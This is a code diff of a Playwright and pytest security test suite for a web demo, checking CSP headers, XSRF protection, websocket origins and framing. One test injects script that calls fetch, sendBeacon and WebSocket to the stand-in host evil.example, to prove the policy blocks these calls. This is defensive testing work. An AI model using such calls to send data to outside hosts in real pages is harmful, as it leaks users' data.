@@ -5,24 +5,16 @@ from __future__ import annotations
 import http.client
 import re
 import socket
-import sqlite3
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from browser_support import SLOW, Demo, wait_until_idle
 from playwright.sync_api import Browser, Page, expect
-from visiting import SLOW, Demo
 
 Open = Callable[..., Page]
 KEY = "dGhlIHNhbXBsZSBub25jZQ=="
 ROOT = Path(__file__).resolve().parents[2]
-PAGES = {
-    "": "Who answers",
-    "compare": "Votes on this fleet",
-    "explorer": "Whether its probabilities can be believed",
-    "lab": "Distill",
-    "benchmark": "How much beta matters",
-}
 
 
 def ask(demo: Demo, method: str, path: str, **headers: str) -> http.client.HTTPResponse:
@@ -79,9 +71,9 @@ def test_everything_is_sent_with_the_headers(server: Demo, method: str, path: st
 
 def test_a_module_of_the_page_is_sent_with_the_headers(server: Demo) -> None:
     page = ask(server, "GET", "/", Host=f"localhost:{server.port}").read().decode()
-    found = re.search(r'src="\.(/static/js/[^"]+)"', page)
-    assert found is not None
-    answer = ask(server, "GET", found[1], Host=f"localhost:{server.port}")
+    script = re.search(r'src="\.(/static/js/[^"]+)"', page)
+    assert script is not None
+    answer = ask(server, "GET", script[1], Host=f"localhost:{server.port}")
     assert answer.status == 200
     assert "script-src 'self' 'sha256-" in answer.headers["Content-Security-Policy"]
 
@@ -153,11 +145,11 @@ def test_only_the_demos_own_pages_open_its_websocket(
 
 def test_an_upload_without_the_pages_token_is_refused(server: Demo) -> None:
     """Though this demo's environment turns the protection off."""
-    own = {"Host": f"localhost:{server.port}", "Origin": f"http://localhost:{server.port}"}
-    answer = ask(server, "PUT", "/_stcore/upload_file/session/file", **own)
+    headers = {"Host": f"localhost:{server.port}", "Origin": f"http://localhost:{server.port}"}
+    answer = ask(server, "PUT", "/_stcore/upload_file/session/file", **headers)
     assert answer.status == 403
     assert "XSRF" in answer.read().decode()
-    foreign = ask(server, "PUT", "/_stcore/upload_file/session/file", **own | {"Origin": "http://localhost:1"})
+    foreign = ask(server, "PUT", "/_stcore/upload_file/session/file", **headers | {"Origin": "http://localhost:1"})
     assert "own pages only" in foreign.read().decode()
 
 
@@ -180,14 +172,6 @@ def test_a_demo_that_binds_every_address_answers_to_the_one_that_was_dialled(tmp
 
 
 # In the browser. `open_tab` fails on errors in the console, to which a violation of the policy belongs.
-
-
-@pytest.mark.parametrize("path", PAGES)
-def test_every_page_works_under_the_policy(open_tab: Open, demo: str, path: str) -> None:
-    page = open_tab(f"{demo}/{path}")
-    expect(page.get_by_text(PAGES[path]).first).to_be_visible(timeout=3 * SLOW)  # weights are converted at first
-    if path in ("explorer", "lab", "benchmark"):
-        expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible(timeout=SLOW)
 
 
 def test_the_lab_takes_an_upload_and_a_table_is_downloaded(open_tab: Open, demo: str) -> None:
@@ -226,7 +210,8 @@ def test_what_slips_into_the_page_loads_nothing_and_runs_nothing(browser: Browse
             await fetch('http://evil.example/').catch(() => {});
             navigator.sendBeacon('http://evil.example/', 'a');
             new WebSocket('ws://evil.example/').onerror = () => {};
-            await new Promise(done => setTimeout(done, 1000));
+            for (let n = 0; n < 200 && new Set(stopped).size < 8; n++)
+                await new Promise(done => setTimeout(done, 100));
             return [...new Set(stopped)].sort();
         }"""
     )
@@ -247,8 +232,8 @@ def test_only_a_site_that_is_named_shows_the_demo_in_a_frame(
     page.goto(f"{friend}/?{server.address}/")
     inside = page.frame_locator("iframe")
     expect(inside.get_by_text("A small router reads your query")).to_be_visible(timeout=SLOW)
-    page.goto(f"{other}/?{server.address}/")
-    page.wait_for_timeout(3000)
+    with page.expect_event("requestfailed", lambda request: request.url.startswith(server.address), timeout=SLOW):
+        page.goto(f"{other}/?{server.address}/")
     expect(inside.get_by_text("A small router reads your query")).to_have_count(0)
     assert not any("localhost" in frame.url for frame in page.frames[1:])
     page.close()
@@ -264,7 +249,7 @@ def test_a_link_to_the_chat_runs_nothing_until_it_is_sent(open_tab: Open, server
     expect(box).to_have_value(QUERY, timeout=SLOW)
     expect(page.get_by_text("Nothing has run yet")).to_contain_text("All of them")
     expect(page.get_by_text("Who answers").first).to_be_visible(timeout=SLOW)
-    page.wait_for_timeout(3000)
+    wait_until_idle(page)
     expect(page.get_by_test_id("stChatMessage")).to_have_count(0)
     page.reload()
     expect(box).to_have_value(QUERY, timeout=SLOW)
@@ -278,17 +263,14 @@ def test_a_link_to_the_chat_runs_nothing_until_it_is_sent(open_tab: Open, server
 
 def turns(server: Demo, query: str) -> int:
     """How many turns of the history have the query."""
-    if not server.history.exists():
-        return 0
-    with sqlite3.connect(server.history) as database:
-        return sum(query in row[0] for row in database.execute("SELECT record FROM turns"))
+    return sum(turn["query"] == query for turn in server.records())
 
 
 def test_a_link_to_compare_runs_nothing_until_it_is_sent(open_tab: Open, demo: str) -> None:
     page = open_tab(f"{demo}/compare?{LINK}&models=chat&models=math")
-    expect(page.get_by_label("Query")).to_have_value(QUERY, timeout=SLOW)
+    expect(page.get_by_label("Query", exact=True)).to_have_value(QUERY, timeout=SLOW)
     expect(page.get_by_text("Votes on this fleet")).to_be_visible(timeout=SLOW)
-    page.wait_for_timeout(3000)
+    wait_until_idle(page)
     expect(page.locator("h4")).to_have_count(0)
     page.get_by_test_id("stFormSubmitButton").get_by_role("button").click()
     expect(page.locator("h4")).to_have_count(2, timeout=SLOW)
